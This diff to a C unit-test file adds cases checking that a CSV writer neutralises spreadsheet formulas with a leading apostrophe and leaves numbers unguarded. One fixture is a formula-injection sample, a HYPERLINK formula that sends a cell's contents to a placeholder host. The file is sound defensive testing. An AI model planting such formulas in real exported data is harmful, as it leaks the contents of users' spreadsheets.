@@ -752,6 +752,35 @@ static void test_write_field(void **state)
         {"two\nlines", ',', "\"two\nlines\""},
         {"cr\r", ';', "\"cr\r\""},
         {"\xC3\xA9t\xC3\xA9", ',', "\xC3\xA9t\xC3\xA9"},
+        /* a text a spreadsheet would read as a formula gets a leading ', inside the quotes */
+        {"=HYPERLINK(\"http://x?d=\"&A1;\"x\")", ',',
+         "\"'=HYPERLINK(\"\"http://x?d=\"\"&A1;\"\"x\"\")\""},
+        {"=HYPERLINK(\"http://x?d=\"&A1;\"x\")", ';',
+         "\"'=HYPERLINK(\"\"http://x?d=\"\"&A1;\"\"x\"\")\""},
+        {"+SUM(1,1)", ',', "\"'+SUM(1,1)\""},
+        {"+SUM(1,1)", ';', "'+SUM(1,1)"},
+        {"@SUM(1+1)", ',', "'@SUM(1+1)"},
+        {"=1+1", ';', "'=1+1"},
+        {"-2+3", ';', "'-2+3"},
+        {"-", ',', "'-"},
+        {"+", ',', "'+"},
+        {"--x", ',', "'--x"},
+        {"-inf", ',', "'-inf"},
+        {"\tx", ',', "'\tx"},
+        {"\rx", ';', "\"'\rx\""},
+        {"a=b", ',', "a=b"},
+        {" =1", ',', " =1"},
+        /* numbers stay numbers */
+        {"-3.5", ',', "-3.5"},
+        {"+2", ',', "+2"},
+        {"-1e5", ',', "-1e5"},
+        {"-2.5E-3", ',', "-2.5E-3"},
+        {"-.5", ',', "-.5"},
+        {"-3,5", ';', "-3,5"},
+        {"-3,5", ',', "\"-3,5\""},
+        {"42", ',', "42"},
+        {"-1e", ',', "'-1e"},
+        {"-1.2.3", ',', "'-1.2.3"},
     };
     for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
         char *got = write_field(cases[i].in, cases[i].delim);
@@ -763,6 +792,27 @@ static void test_write_field(void **state)
         }
         free(got);
     }
+}
+
+/* The formula test, and its inverse for a program reading back what it wrote. */
+static void test_formula_guard(void **state)
+{
+    (void)state;
+    assert_true(pn_csv_is_formula("=1"));
+    assert_true(pn_csv_is_formula("@x"));
+    assert_true(pn_csv_is_formula("-"));
+    assert_true(pn_csv_is_formula("\r"));
+    assert_false(pn_csv_is_formula("-3.5"));
+    assert_false(pn_csv_is_formula("+2"));
+    assert_false(pn_csv_is_formula(""));
+    assert_false(pn_csv_is_formula(NULL));
+    assert_false(pn_csv_is_formula("x=1"));
+    assert_string_equal(pn_csv_unguard("'=1"), "=1");
+    assert_string_equal(pn_csv_unguard("'@SUM(1+1)"), "@SUM(1+1)");
+    assert_string_equal(pn_csv_unguard("'-2"), "'-2"); /* a number is never guarded */
+    assert_string_equal(pn_csv_unguard("'abc"), "'abc");
+    assert_string_equal(pn_csv_unguard("=1"), "=1");
+    assert_null(pn_csv_unguard(NULL));
 }
 
 /* What is written reads back as the same fields. */
@@ -833,6 +883,7 @@ int main(void)
         cmocka_unit_test(test_utf8_valid),
         cmocka_unit_test(test_write_field),
         cmocka_unit_test(test_write_read_round_trip),
+        cmocka_unit_test(test_formula_guard),
     };
     return cmocka_run_group_tests(tests, NULL, NULL);
 }
